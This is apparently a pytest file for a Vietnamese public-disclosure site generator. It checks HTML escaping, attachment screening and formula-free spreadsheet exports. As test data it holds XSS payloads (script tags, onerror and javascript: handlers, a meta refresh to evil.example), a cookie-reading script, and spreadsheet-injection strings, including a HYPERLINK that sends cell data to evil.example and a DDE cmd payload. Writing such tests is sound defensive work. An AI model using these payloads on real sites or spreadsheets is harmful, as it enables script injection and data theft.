"""Every value that reaches HTML is escaped for where it lands (the second line of defence).

``check`` refuses raw HTML, but a page must stay safe even when a value slips past it:
these tests switch the HTML refusal off, put every dangerous character into every field of
a record and of a category file, build the site, and parse each page. No element or
attribute may come from a record: no ``<script>`` but the site's own, no ``on…``
attribute, no ``<meta http-equiv>``, no ``javascript:`` address, and the page's
``<meta name="description">`` holds the summary as text, on one line.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.records import category_file
from generator.records import record as records
from tests.conftest import BASE_FILES as REPO_CONFTEST_BASE
from tests.conftest import run_cli

ATTACK = (
    "A < b > c \" d ' e & f &amp; &lt;script&gt;alert(1)&lt;/script&gt; "
    '&#60;img src=x onerror=alert(2)&#62; " onmouseover="alert(3) '
    '0;url=https://evil.example/ " http-equiv="refresh <img src=x onerror=alert(4)> '
    "</title><script>alert(5)</script> javascript:alert(6)"
)
"""Every dangerous character, raw and entity-encoded, and ways out of text, attributes
and ``<title>``."""
MULTILINE = ATTACK + '\nline two " onfocus="alert(7)'


def _quote(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


RECORD = f"""\
title: {_quote(ATTACK)}
kind: lich
summary: {_quote(MULTILINE)}
document:
  number: {_quote(ATTACK)}
  date: 2026-05-05
  issuer: {_quote(ATTACK)}
  signer: {_quote(ATTACK)}
unit: {_quote(ATTACK)}
month: 2026-05
sessions:
  - date: 2026-05-15
    start: "07:30"
    place: {_quote(ATTACK)}
    host: {_quote(ATTACK)}
posting: {{place: {_quote(ATTACK)}, from: 2026-05-05, to: 2026-05-20}}
tags: [{_quote(ATTACK)}]
change_note: {_quote(ATTACK)}
attachments:
  - file: thong-bao.pdf
    title: {_quote(ATTACK)}
    kind: quyet-dinh
body: {_quote(MULTILINE + chr(10) + chr(10) + "# " + ATTACK + chr(10) + chr(10) + "[x](javascript:alert(8))")}
"""

CATEGORY = f"""\
title: {_quote(ATTACK)}
description: {_quote(MULTILINE)}
kinds:
  thong-bao: {_quote(ATTACK)}
fields:
  note: {{type: text, label: {_quote(ATTACK)}, help: {_quote(ATTACK)}}}
"""


@pytest.fixture
def hostile_site(make_project, monkeypatch):
    """A site built from hostile values with ``check``'s HTML refusal switched off."""
    monkeypatch.setattr(records, "_html_problems", lambda record: [])
    monkeypatch.setattr(category_file, "html_problems", lambda text: [])
    root = make_project(
        {
            "disclosures/tiep-cong-dan/2026/lich-thang-05.yml": RECORD,
            "disclosures/chuyen-muc-moi/_category.yml": CATEGORY,
            "disclosures/chuyen-muc-moi/2026/thong-bao.yml": f"""\
                title: {_quote(ATTACK)}
                kind: thong-bao
                summary: {_quote(MULTILINE)}
                document: {{date: 2026-05-05}}
                note: {_quote(ATTACK)}
                """,
            "content/trang-rieng.md": f"---\ntitle: {_quote(ATTACK)}\ndescription: {_quote(MULTILINE)}\n---\n\n# Trang\n",
        }
    )
    result = run_cli(root, "build", "--site-dir", str(root / "site"))
    assert result.exit_code == 0, result.output
    return root / "site"


SITE_SCRIPTS = ("assets/javascripts/bundle.", "assets/congkhai.js", "assets/search.js", "assets/ck-")


def _injected(page: Path) -> list[str]:
    """What on a page did not come from the site itself."""
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    found = []
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            if name.lower().startswith("on"):
                found.append(f"<{element.name} {name}>")
            text = " ".join(value) if isinstance(value, list) else str(value)
            if "javascript:" in text.replace(" ", "").lower() and name in ("href", "src", "action"):
                found.append(f"<{element.name} {name}={text}>")
        if element.name == "meta" and element.get("http-equiv"):
            found.append(f"<meta http-equiv={element['http-equiv']}>")
        if element.name == "script":
            src = element.get("src") or ""
            inline = element.string or ""
            if src and not any(s in src for s in SITE_SCRIPTS):
                found.append(f"<script src={src}>")
            if "alert(" in inline:
                found.append("<script>alert</script>")
    return found


def test_every_field_with_every_dangerous_character_lands_escaped(hostile_site):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        assert _injected(page) == [], page
    record = BeautifulSoup(
        (hostile_site / "tiep-cong-dan/2026/lich-thang-05/index.html").read_text(encoding="utf-8"), "html.parser"
    )
    # the title is shown as text, in the header and in <title>, decoded exactly once
    assert record.select_one("[data-md-component=header-topic]").get_text() == ATTACK
    assert record.title.get_text().startswith(ATTACK)
    # the summary is the description, as text on one line
    described = record.find_all("meta", attrs={"name": "description"})
    assert [m["content"] for m in described] == [" ".join(MULTILINE.split())]
    category = BeautifulSoup((hostile_site / "chuyen-muc-moi/index.html").read_text(encoding="utf-8"), "html.parser")
    assert category.find("meta", attrs={"name": "description"})["content"] == " ".join(MULTILINE.split())
    assert ATTACK in [link.get_text(strip=True) for link in category.select(".md-nav__link")]
    assert ATTACK + " (Atom)" in [link.get("title") for link in category.find_all("link")]
    page = BeautifulSoup((hostile_site / "trang-rieng/index.html").read_text(encoding="utf-8"), "html.parser")
    assert page.find("meta", attrs={"name": "description"})["content"] == " ".join(MULTILINE.split())
    assert page.select_one("[data-md-component=header-topic]").get_text() == ATTACK


def test_the_search_page_and_feeds_hold_the_values_as_data(hostile_site):
    feed = (hostile_site / "atom.xml").read_text(encoding="utf-8")
    assert "<script>" not in feed and "<img" not in feed


# --- route 3: attachments by content ----------------------------------------------------


def _zip(entries: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return buffer.getvalue()


DOCX = _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
XLSX = _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
ODS = _zip({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"})
DOCM = _zip({"[Content_Types].xml": "<Types macroEnabled/>", "word/vbaProject.bin": "x"})

LICH = "disclosures/tiep-cong-dan/2026/lich-thang-05.yml"
FOLDER = "disclosures/tiep-cong-dan/2026/"


def _with_attachment(make_project, name: str, data: bytes):
    record = (REPO_CONFTEST_BASE[LICH]).replace("file: thong-bao.pdf", f"file: {json.dumps(name)}")
    return make_project({LICH: record, FOLDER + name: data})


@pytest.mark.parametrize(
    "name, data",
    [
        ("quyet-dinh.pdf", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj\n"),
        ("so-do.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ("anh.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
        ("ke-hoach.docx", DOCX),
        ("du-toan.xlsx", XLSX),
        ("du-toan.ods", ODS),
    ],
)
def test_documents_and_images_are_attached(make_project, name, data):
    root = _with_attachment(make_project, name, data)
    result = run_cli(root, "check")
    assert result.exit_code == 0, result.output


WHERE = f"{LICH}:17: attachments[1].file: "


@pytest.mark.parametrize(
    "name, data, message",
    [
        (
            "so-do.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "tệp 'so-do.svg' là ảnh SVG, có thể chứa mã chạy trên trang; hãy đính kèm bản PDF hoặc ảnh PNG, JPEG",
        ),
        (
            "so-do.png",
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "tệp 'so-do.png' là ảnh SVG, có thể chứa mã chạy trên trang; hãy đính kèm bản PDF hoặc ảnh PNG, JPEG",
        ),
        (
            "trang.html",
            b"<!DOCTYPE html><script>alert(1)</script>",
            "tệp 'trang.html' là trang HTML, có thể chứa mã chạy trên trang; hãy đính kèm bản PDF hoặc ảnh PNG, JPEG",
        ),
        (
            "trang.xhtml",
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
            "tệp 'trang.xhtml' là trang HTML, có thể chứa mã chạy trên trang; hãy đính kèm bản PDF hoặc ảnh PNG, JPEG",
        ),
        ("rong.pdf", b"", "tệp 'rong.pdf' là tệp rỗng (0 byte); hãy chép lại bản đầy đủ"),
        (
            "quyet-dinh.pdf",
            DOCX,
            "tệp 'quyet-dinh.pdf' thực chất là tài liệu Word (.docx), không khớp phần mở rộng '.pdf'; "
            "hãy đổi tên tệp thành 'quyet-dinh.docx' hoặc xuất ra PDF",
        ),
        (
            "ke-hoach.docm",
            DOCM,
            "tệp 'ke-hoach.docm' là tài liệu Office có macro (mã chạy được); hãy lưu lại thành .docx, .xlsx hoặc xuất ra PDF",
        ),
        (
            "cai-dat.js",
            b"alert(document.cookie)\n",
            "tệp 'cai-dat.js' không phải loại tệp được phép; chỉ đính kèm PDF, ảnh PNG hoặc JPEG, tài liệu Word, "
            "Excel, PowerPoint (.docx, .xlsx, .pptx) hoặc OpenDocument (.odt, .ods, .odp)",
        ),
        (
            "quyet-dinh.PDF",
            b"%PDF-1.4\n",
            "tệp 'quyet-dinh.PDF' có phần mở rộng viết hoa; hãy đổi tên tệp thành 'quyet-dinh.pdf' (và sửa trong attachments)",
        ),
    ],
)
def test_active_content_and_renamed_files_are_refused(make_project, name, data, message):
    root = _with_attachment(make_project, name, data)
    result = run_cli(root, "check")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == WHERE + message


# --- route 4: the category file is checked like a record --------------------------------

NEW_CATEGORY = "disclosures/chuyen-muc-moi/_category.yml"


def test_html_in_a_category_file_is_refused_at_its_line(make_project):
    root = make_project(
        {NEW_CATEGORY: "title: Chuyên mục mới\ndescription: Mô tả &lt;img src=x onerror=alert(1)&gt;\n"}
    )
    result = run_cli(root, "check")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"{NEW_CATEGORY}:2: description: có mã HTML <img> viết bằng mã ký tự (&lt;, &#60;…); tệp chuyên mục không "
        "được chứa HTML, chỉ viết chữ hoặc Markdown"
    )


def test_personal_data_in_a_category_file_is_refused(make_project):
    root = make_project(
        {NEW_CATEGORY: "title: Chuyên mục mới\nfields:\n  note: {type: text, label: Ghi chú, help: Gọi 0912 345 678}\n"}
    )
    result = run_cli(root, "check")
    assert result.exit_code == 1
    assert result.output.splitlines()[0].startswith(
        f"{NEW_CATEGORY}:3: fields.note.help: có số điện thoại 0912 *** ***"
    )
    assert "0912 345 678" not in result.output


# --- route 5: a category may not take a path of the site --------------------------------


@pytest.mark.parametrize(
    "slug, what",
    [
        ("nhat-ky-cong-khai", "trang nhật ký công khai"),
        ("danh-muc-thong-tin", "trang danh mục thông tin"),
        ("tim-kiem", "trang tìm kiếm"),
        ("assets", "thư mục giao diện (assets)"),
        ("gioi-thieu", "trang viết tay content/gioi-thieu.md"),
    ],
)
def test_a_category_named_like_a_page_of_the_site_is_refused(make_project, slug, what):
    root = make_project(
        {
            f"disclosures/{slug}/_category.yml": "title: Chuyên mục\n",
            f"disclosures/{slug}/2026/a.yml": "title: Thông báo\ndocument: {date: 2026-05-05}\n",
        }
    )
    result = run_cli(root, "check")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        f"disclosures/{slug}/_category.yml:1: category: tên thư mục chuyên mục '{slug}' trùng với đường dẫn "
        f"/{slug}/ của {what}; hãy đổi tên thư mục chuyên mục"
    )


# --- route 6: no formula in a spreadsheet export -----------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tThông báo",
    "\rThông báo",
]


def test_csv_and_xlsx_exports_never_hold_a_formula(make_project):
    import csv

    from openpyxl import load_workbook

    files = {}
    for n, text in enumerate(FORMULAS):
        files[f"disclosures/tuyen-dung/2026/tb-{n}.yml"] = (
            f"title: {json.dumps(text, ensure_ascii=False)}\nkind: quy-hoach\n"
            f"document: {{number: {json.dumps(text, ensure_ascii=False)}, date: 2026-05-05}}\n"
            f"change_note: {json.dumps(text, ensure_ascii=False)}\n"
        )
    root = make_project(files)
    result = run_cli(root, "publish", "--allow-sample", "--deploy-to", str(root / "www"))
    assert result.exit_code == 0, result.output
    raw = (root / "www/nhat-ky-cong-khai/publication-log.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    titles = {row["title"] for row in rows}
    assert {"'" + text for text in FORMULAS[:-1]} <= titles
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    result = run_cli(root, "report", "--year", "2026", "--format", "csv,xlsx", "--out", str(root / "out"))
    assert result.exit_code == 0, result.output
    raw = (root / "out/bao-cao-b1-2026.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw, newline="")) for cell in row]
    assert {"'" + text for text in FORMULAS[:-1]} <= set(cells)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    sheet = load_workbook(root / "out/bao-cao-b1-2026.xlsx").active
    values = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert FORMULAS[0] in values and values[FORMULAS[0]] == "s"
    assert all(kind != "f" for kind in values.values())
